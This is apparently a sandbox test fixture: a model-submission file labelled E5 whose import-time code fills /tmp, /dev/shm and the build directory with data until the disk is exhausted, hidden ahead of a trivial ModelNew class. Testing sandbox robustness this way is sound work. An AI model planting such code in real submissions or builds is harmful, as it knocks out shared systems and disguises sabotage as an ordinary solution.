"""E5: filling the disk through every writable place it can find."""
import os
import sys

import torch
import torch.nn as nn

STAGE = "@STAGE@"


def _armed():
    """True in the stage this candidate attacks (tests/hostile/README.md)."""
    try:
        with open("/proc/self/status") as f:
            for line in f:
                if line.startswith("Seccomp_filters:"):
                    return ("run" if int(line.split()[1]) >= 2 else "compile") == STAGE
    except OSError:
        pass
    return STAGE == "compile"


if _armed():
    import stark_build
    block = b"x" * (1 << 20)
    for folder in ("/tmp", "/dev/shm", stark_build.state.get("build_dir") or "/tmp"):
        try:
            with open(os.path.join(folder, "stark-fill"), "wb") as f:
                while True:
                    f.write(block)
        except OSError:
            pass
        try:
            os.unlink(os.path.join(folder, "stark-fill"))
        except OSError:
            pass


class ModelNew(nn.Module):
    def __init__(self, scale):
        super().__init__()
        self.scale = scale

    def forward(self, x):
        return x * self.scale + 1.0
